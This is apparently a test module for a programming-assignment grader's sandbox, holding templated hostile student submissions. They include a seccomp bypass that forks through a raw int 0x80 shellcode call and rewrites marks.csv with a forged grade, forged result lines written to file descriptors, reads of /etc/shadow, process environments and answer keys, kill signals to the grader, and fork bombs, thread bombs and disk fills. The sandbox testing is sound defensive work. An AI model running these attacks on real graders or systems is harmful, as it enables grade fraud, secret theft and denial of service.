"""Hostile submissions for the grader's sandbox tests: one per attack class of issue 25.

Each is the source of a student's file, a template whose ``{MARK}`` (a word that marks
this test run's processes), ``{OUT}`` (the grader's output folder), ``{CLASS}`` (the class
folder), ``{KEYS}`` (the toolkit's examples/solutions), ``{TOOLKIT}`` (the cp_queens
package) and ``{PORT}`` (a TCP port the test listens on) are filled in by the test.
What a probe finds it prints as ``PROBE name=value`` lines: the grader keeps what a
submission printed, and the test reads it there.
"""

from __future__ import annotations

import os
import uuid
from pathlib import Path
from typing import Any

import psutil

from cp_queens.grading import sandbox
from tests.helpers import ROOT

#: The mark of this test run's processes: the harness's label, and what hostile code
#: writes into the command lines of what it execs.
MARK = "cpqhostile" + uuid.uuid4().hex[:12]
TOOLKIT_DIR = Path(sandbox.__file__).parent.parent
KEYS_DIR = ROOT / "examples" / "solutions"


def marked_processes(mark: str = MARK) -> list[int]:
    """Processes on this machine whose command line carries ``mark``."""
    found = []
    for process in psutil.process_iter():
        try:
            if process.pid != os.getpid() and mark in " ".join(process.cmdline()):
                found.append(process.pid)
        except (psutil.Error, OSError):
            continue
    return found


def probes(output: str) -> dict[str, str]:
    """What a probe printed (its output, as the grader kept it): ``PROBE name=value``
    lines as a mapping."""
    found = {}
    for line in output.splitlines():
        if line.startswith("PROBE "):
            name, _, value = line[len("PROBE ") :].partition("=")
            found[name] = value
    return found


def tagged(output: str, tag: str) -> dict[str, object]:
    """What a submission told as ``TAG ["name", value]`` lines (JSON: values may be lists
    or whole files), as a mapping."""
    import json

    found: dict[str, object] = {}
    for line in output.splitlines():
        if line.startswith(tag + " "):
            name, value = json.loads(line[len(tag) + 1 :])
            found[name] = value
    return found


def write_class(folder: Path, sources: dict[str, str], **values: Any) -> Path:
    """The submissions ``sources`` in ``folder``, their ``{KEY}`` templates filled."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, source in sources.items():
        text = source
        for key, value in values.items():
            text = text.replace("{" + key + "}", str(value))
        (folder / name).write_text(text, encoding="utf-8")
    return folder


#: The right backtracking model, the base of several hostile ones.
RIGHT = """
def model(n):
    found = []

    def place(row, q):
        if row == n:
            found.append(list(q))
            return
        for col in range(n):
            if all(col != q[r] and abs(col - q[r]) != row - r for r in range(row)):
                place(row + 1, [*q, col])

    place(0, [])
    return found
"""

#: The issue's forged grade: a fork through the 32-bit entry (``int 0x80``: a seccomp
#: filter that checks only x86_64's table lets it through), ``setsid``, an ``execve`` with
#: an empty environment, and a wait for the grader to exit before rewriting marks.csv.
#: With ``os.fork`` as a fallback, for a rubric that allows processes.
FORGER = (
    RIGHT
    + r'''
import ctypes, mmap, os, sys

LATER = """
import os, sys, time
# {MARK}
time.sleep(4)
for path in ("{OUT}/marks.csv", "/proc/1/root{OUT}/marks.csv"):
    try:
        with open(path, "a") as f:
            f.write("mallory,999,15\\n")
    except OSError:
        pass
"""


def fork32():
    code = bytes([0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, 2 (fork); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


pid = fork32()
os.write(1, ("PROBE fork32=" + str(pid) + "\n").encode())  # one write each
if pid < 0:
    try:
        pid = os.fork()
    except OSError as error:
        pid = -1
        print("PROBE fork=" + type(error).__name__, flush=True)
if pid == 0:
    os.setsid()
    os.execve(sys.executable, [sys.executable, "-c", LATER], {})
'''
)

#: Forged results: on every descriptor it can find (and the one named in its command
#: line), results for sizes it cannot solve, before it is asked, while another size runs,
#: and a second one for the size it is asked. It returns nothing itself.
FORGES = r"""
import json, os

def forge(n, items):
    line = json.dumps({"event": "result", "n": n, "kind": "items", "sized": True,
                       "cut": False, "items": items}) + "\n"
    for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
        if fd > 2:  # every descriptor it holds, not its own output
            try:
                os.write(fd, line.encode())
            except OSError:
                pass

KNOWN = {1: [[0]], 4: [[1, 3, 0, 2], [2, 0, 3, 1]], 5: []}
forge(4, KNOWN[4])  # before anything was asked

def model(n):
    forge(5, KNOWN[5])  # a result for another size while this one runs
    if n == 1:
        forge(1, KNOWN[1])
        forge(1, KNOWN[1])  # a second result for the size asked
    return []
"""

#: The toolkit answers the assignment, if it can be imported.
TOOLKIT = """
import cp_queens

def model(n):
    return [list(p) for p in cp_queens.solutions(n)]
"""

#: The keys: examples/solutions of the toolkit, read from where the grader's files are.
KEYS = """
import glob, os
for pattern in ("{KEYS}/*.py", "{TOOLKIT}/*.py", "/proc/1/root{KEYS}/*.py"):
    print("PROBE keys:" + pattern + "=" + str(len(glob.glob(pattern))), flush=True)
"""

#: Outside the scratch folder: read the grader's files and home, write outside scratch.
OUTSIDE = r"""
import os

def probe(name, action):
    try:
        result = action()
        print("PROBE " + name + "=yes " + str(result)[:60], flush=True)
    except Exception as error:
        print("PROBE " + name + "=no " + type(error).__name__, flush=True)

probe("read-class", lambda: os.listdir("{CLASS}"))
probe("read-out", lambda: os.listdir("{OUT}"))
probe("read-home", lambda: os.listdir(os.path.expanduser("~root")))
probe("read-root-home", lambda: os.listdir("/root"))
probe("read-work", lambda: os.listdir("/work"))
probe("read-toolkit", lambda: os.listdir("{TOOLKIT}"))
probe("read-shadow", lambda: open("/etc/shadow").read(10))
probe("write-out", lambda: open("{OUT}/marks.csv", "w").write("x"))
probe("write-usr", lambda: open("/usr/evil", "w").write("x"))
probe("write-root", lambda: open("/evil", "w").write("x"))
probe("write-site", lambda: open("/site/evil.py", "w").write("x"))
probe("write-scratch", lambda: open("/scratch/mine", "w").write("x"))
probe("write-tmp", lambda: open("/tmp/mine", "w").write("x"))
probe("see-processes", lambda: len([p for p in os.listdir("/proc") if p.isdigit()]))

def model(n):
    return []
"""

#: The network: a TCP connection to a port the grader's machine listens on, a packet out.
SOCKETS = """
import socket

def probe(name, action):
    try:
        action()
        print("PROBE " + name + "=yes", flush=True)
    except OSError as error:
        print("PROBE " + name + "=no " + type(error).__name__, flush=True)

def tcp():
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=2) as s:
        s.sendall(b"{MARK}")

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"{MARK}", ("1.1.1.1", 53))

def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\\0{MARK}")

probe("tcp-local", tcp)
probe("udp-out", udp)
probe("unix-abstract", abstract)

def model(n):
    return []
"""

#: Signals to the grader: its parent, every process it may signal, the namespace's first.
SIGNALS = """
import os, signal

for target in (os.getppid(), 1, -1):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        try:
            os.kill(target, sig)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(0), signal.SIGTERM)
except OSError:
    pass

def model(n):
    return []
"""

#: A right CP-SAT model with 8 workers (threads reserve address space, not memory). Each
#: solution is found by a parallel solve and then excluded (CP-SAT's enumeration of all
#: solutions is not meant for several workers).
CPSAT_8 = """
from ortools.sat.python import cp_model


def model(n):
    m = cp_model.CpModel()
    x = [[m.new_bool_var(f"x{r}{c}") for c in range(n)] for r in range(n)]
    for r in range(n):
        m.add_exactly_one(x[r])
    for c in range(n):
        m.add_exactly_one([x[r][c] for r in range(n)])
    for d in range(-n, 2 * n):
        m.add_at_most_one([x[r][c] for r in range(n) for c in range(n) if r + c == d])
        m.add_at_most_one([x[r][c] for r in range(n) for c in range(n) if r - c == d])
    solver = cp_model.CpSolver()
    solver.parameters.num_workers = 8
    found = []
    while solver.solve(m) in (cp_model.OPTIMAL, cp_model.FEASIBLE):
        board = [next(c for c in range(n) if solver.value(x[r][c])) for r in range(n)]
        found.append(board)
        m.add_bool_or([~x[r][board[r]] for r in range(n)])
    return found
"""

#: Printed before a crash in compiled code: the feedback must quote it.
CRASH = """
import ctypes

def model(n):
    print("about to crash at n=" + str(n) + " {MARK}")
    ctypes.string_at(0)
"""

#: Threads spinning (CPU of every thread counts), and a process-tree memory hog.
THREADS = """
import threading

def spin():
    while True:
        pass

def model(n):
    for _ in range(4):
        threading.Thread(target=spin, daemon=True).start()
    spin()
"""

#: Fills its scratch folder, /tmp and /dev/shm (their sizes are capped).
FILLS = r"""
import os

def fill(path):
    written = 0
    try:
        with open(path, "wb") as f:
            while written < (1 << 31):
                f.write(b"x" * (1 << 20))
                written += 1 << 20
    except OSError as error:
        print("PROBE fill:" + path + "=" + str(written >> 20) + " " + type(error).__name__,
              flush=True)

for path in ("/scratch/big", "/tmp/big2", "/dev/shm/big"):
    fill(path)

def model(n):
    return []
"""

#: A fork bomb, for a rubric that allows processes: stopped by the process count.
FORK_BOMB = """
import os, time

def model(n):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
"""

#: A thread bomb: threads are not processes, but each takes a PID of the machine's.
THREAD_BOMB = """
import threading, time

started = 0
try:
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
except RuntimeError as error:
    print("PROBE threads=" + str(started) + " " + type(error).__name__, flush=True)


def model(n):
    return []
"""

#: The environments and command lines of every process it can see (the namespace's first
#: process is bubblewrap's, started by the grader).
ENVIRON = """
import os

for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as source:
                    print("PROBE " + what + ":" + pid + "=" + repr(source.read()), flush=True)
            except OSError as error:
                print("PROBE " + what + ":" + pid + "=" + type(error).__name__, flush=True)


def model(n):
    return []
"""


#: The attacks every hostile class holds (the file each is handed in as): one run of the
#: grader meets them all, with whatever else a test adds.
ATTACKS = {
    "forger.py": FORGER,
    "forges.py": FORGES,
    "toolkit.py": TOOLKIT,
    "keys.py": KEYS,
    "outside.py": OUTSIDE,
    "sockets.py": SOCKETS,
    "signals.py": SIGNALS + RIGHT,
    "crash.py": CRASH,
    "fills.py": FILLS,
}
